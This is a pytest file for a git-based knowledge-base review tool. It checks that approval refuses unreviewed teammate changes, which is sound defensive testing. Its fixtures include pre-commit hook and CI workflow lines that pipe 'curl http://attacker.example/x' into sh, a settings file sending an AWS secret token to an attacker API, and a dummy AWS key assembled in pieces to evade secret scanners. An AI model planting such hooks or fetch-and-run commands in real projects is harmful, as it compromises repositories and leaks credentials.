"""Approve merges exactly what review showed: a teammate's additions to a knowledge branch.

A teammate who can push ``knowledge/*`` adds to a routed note's branch with plain git (a clone
of the team remote on ``git daemon``, a commit, a push). Review lists every change beyond the
routed note as unreviewed, approve refuses it (exit 1, nothing pushed, no ref moved, the pull
request still open on the loopback forge) until each path is accepted by name.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from reflectgit.workflows import review, routing
from tests.conftest import git
from tests.support.forge_server import make_forge
from tests.support.remote import git_daemon
from tests.support.routing import kb_factory, note_bytes, team_on_forge, teammate_pushes

__all__ = ["git_daemon", "kb_factory", "make_forge"]

# Built from parts so no scanner of this repository sees a key in the source.
AWS_KEY_ID = "AKIA" + "Z3K7Q2M9X4W8R6T1"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzq8Hd3kT2v"

EVIL_NOTE = note_bytes("Disable TLS checks", "high", note_id="aaa-disable-tls").decode()
PRE_COMMIT = """repos:
- repo: local
  hooks:
  - id: setup
    name: setup
    entry: sh -c 'curl -s http://attacker.example/x | sh'
    language: system
"""
WORKFLOW = """on: [push]
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
    - run: curl -s http://attacker.example/x | sh
"""
SETTINGS = '[forge]\napi_url = "http://attacker.example/api"\ntoken_env = "AWS_SECRET_ACCESS_KEY"\n'

# (what the teammate does, their files (None deletes), the reason's words, more words)
ATTACKS: list[tuple[str, dict[str, str | None], str, str]] = [
    ("deletes-a-main-note", {"documents/lrn-pool-timeout.md": None}, "deletes a note", ""),
    ("second-high-note", {"documents/aaa-disable-tls.md": EVIL_NOTE}, "a second note", ""),
    (
        "aws-secret-file",
        {
            "deploy/aws.env": f"aws_access_key_id = {AWS_KEY_ID}\naws_secret_access_key = {AWS_SECRET}\n"
        },
        "holds",
        "outside documents/",
    ),
    ("pre-commit-hook", {".pre-commit-config.yaml": PRE_COMMIT}, "git hook setting", ""),
    ("workflow", {".github/workflows/ci.yml": WORKFLOW}, "CI file", ""),
    ("settings", {".reflect-git.toml": SETTINGS}, "reflect-git settings", ""),
]


def _routed(git_daemon: Any, kb_factory: Any, make_forge: Any, monkeypatch: Any) -> Any:
    team, forge, kb = team_on_forge(git_daemon, kb_factory, make_forge, monkeypatch)
    routed = routing.route(kb.config(), kb.add("Use WAL mode", "medium"))
    assert routed.route == "branch" and routed.pushed, routed
    return team, forge, kb, routed


@pytest.mark.parametrize(
    ("files", "reason", "also"),
    [a[1:] for a in ATTACKS],
    ids=[a[0] for a in ATTACKS],
)
def test_approve_refuses_what_review_did_not_show(
    git_daemon: Any,
    kb_factory: Any,
    make_forge: Any,
    monkeypatch: Any,
    cli: Any,
    tmp_path: Path,
    files: dict[str, str | None],
    reason: str,
    also: str,
) -> None:
    [path] = files
    team, forge, kb, routed = _routed(git_daemon, kb_factory, make_forge, monkeypatch)
    branch = routed.branch or ""
    teammate_pushes(team, branch, files, tmp_path)
    heads = team.heads()

    shown = cli("--kb", str(kb.path), "review", "show", branch)
    assert shown.code == 0, shown
    assert "INVALID" in shown.out and ", valid" not in shown.out
    assert f"not reviewed: {path}: " in shown.out and reason in shown.out
    assert "Use WAL mode" in shown.out  # the routed note is still the one reviewed
    assert AWS_SECRET not in shown.out
    [doc] = cli("--kb", str(kb.path), "--json", "review", "list").json()
    assert doc["valid"] is False and doc["path"] == f"documents/{routed.id}.md"
    assert path in [u["path"] for u in doc["unreviewed"]]
    assert any(path in p for p in doc["problems"])
    if also:
        assert any(also in u["reason"] for u in doc["unreviewed"] if u["path"] == path)

    refused = cli("--kb", str(kb.path), "review", "approve", branch)

    assert refused.code == 1, refused
    assert refused.err.startswith("error: ") and "\nhint: " in refused.err
    assert f"  {path}: " in refused.err and f"--accept {path}" in refused.err
    assert AWS_SECRET not in refused.err and AWS_KEY_ID not in refused.err
    assert team.heads() == heads  # nothing pushed, no ref moved, the branch kept
    [pr] = forge.prs["acme/team"]
    assert forge.state_of("acme/team", pr) == "open"

    # Accepting something else, or a misspelt path, accepts nothing.
    stray = cli("--kb", str(kb.path), "review", "approve", branch, "--accept", "README.md")
    assert stray.code == 1 and "lists no such change" in stray.err
    assert team.heads() == heads

    # A person who read the change and names it gets today's merge.
    accepted = cli("--kb", str(kb.path), "--json", "review", "approve", branch, "--accept", path)
    assert accepted.code == 0, accepted
    assert accepted.json()["pushed"] and accepted.json()["deleted"]
    assert team.heads()["main"] == heads[branch]
    assert forge.state_of("acme/team", pr) == "merged"


def test_every_change_must_be_accepted_by_name(
    git_daemon: Any, kb_factory: Any, make_forge: Any, monkeypatch: Any, tmp_path: Path
) -> None:
    from reflectgit.errors import RefusedError

    team, _forge, kb, routed = _routed(git_daemon, kb_factory, make_forge, monkeypatch)
    branch = routed.branch or ""
    teammate_pushes(
        team,
        branch,
        {".github/workflows/ci.yml": WORKFLOW, "documents/lrn-pool-timeout.md": None},
        tmp_path,
    )
    heads = team.heads()
    with pytest.raises(RefusedError) as refused:
        review.approve(kb.config(), branch, accept=[".github/workflows/ci.yml"])
    assert "documents/lrn-pool-timeout.md: deletes a note" in refused.value.message
    assert ".github/workflows/ci.yml" not in refused.value.message  # accepted, so not listed
    assert team.heads() == heads


def test_a_secret_inside_the_routed_note_is_listed(
    git_daemon: Any, kb_factory: Any, make_forge: Any, monkeypatch: Any, tmp_path: Path
) -> None:
    team, _forge, kb, routed = _routed(git_daemon, kb_factory, make_forge, monkeypatch)
    branch = routed.branch or ""
    note = f"documents/{routed.id}.md"
    text = team.git("show", f"{branch}:{note}") + f"\nUse aws_secret_access_key = {AWS_SECRET}\n"
    teammate_pushes(team, branch, {note: text}, tmp_path)
    [item] = review.list_branches(kb.config())
    [found] = item.unreviewed
    assert found.path == note and found.reason.startswith("holds ") and "not shown" in found.reason
    assert (
        not item.valid and AWS_SECRET not in item.diff and AWS_SECRET not in (item.note_text or "")
    )
    with pytest.raises(Exception, match="changes more than its note"):
        review.approve(kb.config(), branch)


def test_a_clean_branch_approves_as_before_and_the_forge_marks_it_merged(
    git_daemon: Any, kb_factory: Any, make_forge: Any, monkeypatch: Any, cli: Any
) -> None:
    team, forge, kb, routed = _routed(git_daemon, kb_factory, make_forge, monkeypatch)
    # A second route of the same note (a new version) is the route's own change: still clean.
    path = kb.path / f"documents/{routed.id}.md"
    path.write_bytes(path.read_bytes() + b"More detail.\n")
    git("commit", "-qam", "edit", cwd=kb.path)
    again = routing.route(kb.config(), routed.id or "")
    assert again.branch == routed.branch and again.pushed, again
    [item] = review.list_branches(kb.config())
    assert item.valid and item.unreviewed == [] and item.note_path == f"documents/{routed.id}.md"
    shown = cli("--kb", str(kb.path), "review", "show", routed.branch)
    assert ", valid" in shown.out and "not reviewed" not in shown.out

    stale = cli("--kb", str(kb.path), "review", "approve", routed.branch, "--tip", routed.commit)
    assert stale.code == 1 and "moved since it was reviewed" in stale.err
    res = cli(
        "--kb", str(kb.path), "--json", "review", "approve", routed.branch, "--tip", again.commit
    )
    assert res.code == 0, res
    assert res.json()["fast_forward"] and team.heads()["main"] == again.commit
    [pr] = forge.prs["acme/team"]
    assert forge.state_of("acme/team", pr) == "merged"


def test_the_note_under_review_is_the_one_the_route_made(
    git_daemon: Any, kb_factory: Any, make_forge: Any, monkeypatch: Any, tmp_path: Path
) -> None:
    """A second note sorting before the routed one does not take its place in review."""
    team, _forge, kb, routed = _routed(git_daemon, kb_factory, make_forge, monkeypatch)
    teammate_pushes(
        team, routed.branch or "", {"documents/aaa-disable-tls.md": EVIL_NOTE}, tmp_path
    )
    [item] = review.list_branches(kb.config())
    assert item.note_path == f"documents/{routed.id}.md" and item.title == "Use WAL mode"
    assert [u.path for u in item.unreviewed] == ["documents/aaa-disable-tls.md"]


def test_a_submodule_entry_is_listed_not_a_crash(
    git_daemon: Any, kb_factory: Any, make_forge: Any, monkeypatch: Any, tmp_path: Path, cli: Any
) -> None:
    team, _forge, kb, routed = _routed(git_daemon, kb_factory, make_forge, monkeypatch)
    branch = routed.branch or ""
    work = tmp_path / "teammate"
    git("clone", "-q", "-b", branch, team.url, str(work), cwd=tmp_path)
    gitlink = "1" * 40  # a commit of another repository: no object here
    git("update-index", "--add", "--cacheinfo", f"160000,{gitlink},vendor/tool", cwd=work)
    git("commit", "-qm", "vendor", cwd=work)
    git("push", "-q", "origin", f"HEAD:refs/heads/{branch}", cwd=work)
    heads = team.heads()
    shown = cli("--kb", str(kb.path), "review", "show", branch)
    assert shown.code == 0 and "not reviewed: vendor/tool: adds outside documents/" in shown.out
    refused = cli("--kb", str(kb.path), "review", "approve", branch)
    assert refused.code == 1 and "vendor/tool" in refused.err
    assert team.heads() == heads
